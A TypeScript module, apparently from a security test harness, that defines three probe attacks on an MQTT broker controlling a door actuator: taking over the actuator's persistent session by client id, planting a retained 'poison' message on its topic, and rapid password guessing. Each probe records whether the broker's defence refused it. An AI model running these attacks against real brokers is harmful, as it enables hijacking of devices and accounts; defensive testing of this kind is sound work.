/**
 * Attacks by an account holder (keygen --attacker mallory): she knows her own password and tries what
 * an account lets her try at the broker — connecting under the actuator's client id to take its
 * persistent session, leaving a retained message on a secure topic for every later subscriber, and
 * guessing a device's password as fast as the broker lets her.
 * @module
 */

import { toBase64Url } from "../../crypto/codec.ts";
import { TransportError } from "../../transport/client.ts";
import type { AttackContext } from "./context.ts";
import type { AttackConnection } from "./options.ts";
import type { AttackRecipe, ProbeOutcome } from "./recipe.ts";

/** The client id `client-id-takeover` connects under unless told otherwise. */
export const DEFAULT_TAKEOVER_CLIENT_ID = "door-actuator";
/** How long a takeover connection waits for the victim's queued or live messages. */
export const TAKEOVER_LISTEN_MS = 300;
/** How long a fresh subscriber waits for the retained message (a broker sends it right after SUBACK). */
export const RETAIN_PROBE_MS = 500;
/** Longest wait for a probe's connection to close before moving on. */
const PROBE_CLOSE_MS = 1_000;

/** The stable code of a refused connection. */
export function refusalCode(error: unknown): string {
  return error instanceof TransportError ? error.code : "CONNECT_FAILED";
}

/** Resolves after `ms`, or when `done` settles first; never leaves a timer behind. */
export async function waitAtMost(ctx: AttackContext, ms: number, done: Promise<unknown>): Promise<void> {
  const timer = new AbortController();
  await Promise.race([done.catch(() => {}), ctx.clock.sleep(ms, timer.signal).catch(() => {})]);
  timer.abort();
}

async function closeQuietly(ctx: AttackContext, connection: AttackConnection): Promise<void> {
  await waitAtMost(ctx, PROBE_CLOSE_MS, connection.close());
}

function ownClientId(ctx: AttackContext, purpose: string): string {
  return `${ctx.ownCredentials.username}-${purpose}-${toBase64Url(ctx.randomBytes(4))}`;
}

/**
 * `client-id-takeover`: the attacker's own password, the actuator's client id, a persistent session.
 * Without the defence the broker hands her the actuator's session (its subscriptions and queued door
 * events) and drops the actuator; she subscribes to nothing, so whatever arrives was meant for it.
 * @example
 * ```ts
 * const outcome = await clientIdTakeover.build(ctx, "persistent-session", 1).run();
 * ```
 */
export const clientIdTakeover: AttackRecipe = {
  level: "probe",
  plan: () => ["persistent-session"],
  build: (ctx) => ({
    expect: "CLIENT_ID_NOT_OWNED",
    async run(): Promise<ProbeOutcome> {
      const clientId = ctx.options.takeoverClientId ?? DEFAULT_TAKEOVER_CLIENT_ID;
      let connection: AttackConnection;
      try {
        connection = await ctx.connect({ ...ctx.ownCredentials, clientId, clean: false });
      } catch (error) {
        return { succeeded: false, code: refusalCode(error), fields: { client_id: clientId } };
      }
      let received = 0;
      connection.onMessage(() => void received++);
      await ctx.clock.sleep(TAKEOVER_LISTEN_MS);
      await closeQuietly(ctx, connection);
      const fields = { client_id: clientId, received };
      // Let in but handed nothing: the broker gave her a session of her own (Mosquitto's
      // use_username_as_clientid), not the actuator's.
      return received > 0 ? { succeeded: true, fields } : { succeeded: false, code: "NO_SESSION", fields };
    },
  }),
};

/**
 * `retained-poison`: publishes a captured envelope as a retained message on the victim topic, then
 * checks with a fresh subscriber of its own (its ACL reads `home/#`) whether the broker kept it for
 * every later subscription, the actuator's included. A kept one is cleared again.
 * @example
 * ```ts
 * const outcome = await retainedPoison.build(ctx, "captured-envelope", 1).run();
 * ```
 */
export const retainedPoison: AttackRecipe = {
  level: "probe",
  plan: () => ["captured-envelope"],
  build: (ctx, _variant, i) => ({
    expect: "RETAIN_REFUSED",
    async run(): Promise<ProbeOutcome> {
      const topic = ctx.options.topic;
      const poison = (await ctx.template(i)).payload;
      let publisher: AttackConnection;
      try {
        publisher = await ctx.connect({ ...ctx.ownCredentials, clientId: ownClientId(ctx, "retain") });
      } catch (error) {
        return { succeeded: false, code: refusalCode(error), fields: { topic } };
      }
      const closed = new Promise<"closed">((resolve) =>
        publisher.onState((s) => (s === "closed" || s === "offline") && resolve("closed"))
      );
      await publisher.publish(topic, poison, { qos: 0, retain: true }).catch(() => {});
      // A SUBACK on the same connection proves the broker handled the publish before it; a subscription
      // (not a publish) so the actuator is not sent anything.
      const handled = await Promise.race([
        closed,
        publisher.subscribe(`${topic}/retain-check`, { qos: 1 }).then(() => "kept", () => "closed" as const),
      ]);
      await closeQuietly(ctx, publisher);
      if (handled === "closed") {
        return { succeeded: false, code: "DISCONNECTED", fields: { topic } };
      }
      let checker: AttackConnection;
      try {
        checker = await ctx.connect({ ...ctx.ownCredentials, clientId: ownClientId(ctx, "retain-check") });
      } catch (error) {
        return { succeeded: false, code: refusalCode(error), fields: { topic } };
      }
      let delivered = false;
      const arrived = new Promise<void>((resolve) =>
        checker.onMessage((_t, payload) => {
          if (sameBytes(payload, poison)) {
            delivered = true;
            resolve();
          }
        })
      );
      const subscribed = await checker.subscribe(topic, { qos: 1 }).then(() => true, () => false);
      if (subscribed) await waitAtMost(ctx, RETAIN_PROBE_MS, arrived);
      // An empty retained message clears the poison, so one run does not leave it for the next.
      if (delivered) {
        await checker.publish(topic, new Uint8Array(0), { qos: 1, retain: true }).catch(() => {});
      }
      await closeQuietly(ctx, checker);
      if (delivered) return { succeeded: true, fields: { topic, delivered_to_new_subscriber: true } };
      return { succeeded: false, code: subscribed ? "NOT_RETAINED" : "SUBSCRIBE_REFUSED", fields: { topic } };
    },
  }),
};

/**
 * `password-guessing`: one random password for the victim's account per attempt, as fast as the broker
 * answers; `attack_class_done` then gives the guesses per second its login backoff allowed.
 * @example
 * ```ts
 * const outcome = await passwordGuessing.build(ctx, "random-guess", 1).run();
 * ```
 */
export const passwordGuessing: AttackRecipe = {
  level: "probe",
  plan: () => ["random-guess"],
  build: (ctx) => ({
    expect: "NOT_AUTHORIZED",
    async run(): Promise<ProbeOutcome> {
      const username = ctx.options.victimUsername;
      const started = ctx.clock.now();
      try {
        const connection = await ctx.connect({
          username,
          password: toBase64Url(ctx.randomBytes(18)),
          clientId: `${username}-${toBase64Url(ctx.randomBytes(4))}`,
        });
        await closeQuietly(ctx, connection);
        return { succeeded: true, fields: { username } };
      } catch (error) {
        const answeredAfterMs = Math.round(ctx.clock.now() - started);
        return {
          succeeded: false,
          code: refusalCode(error),
          fields: { username, answered_after_ms: answeredAfterMs },
        };
      }
    },
  }),
};

function sameBytes(a: Uint8Array, b: Uint8Array): boolean {
  return a.length === b.length && a.every((x, k) => x === b[k]);
}
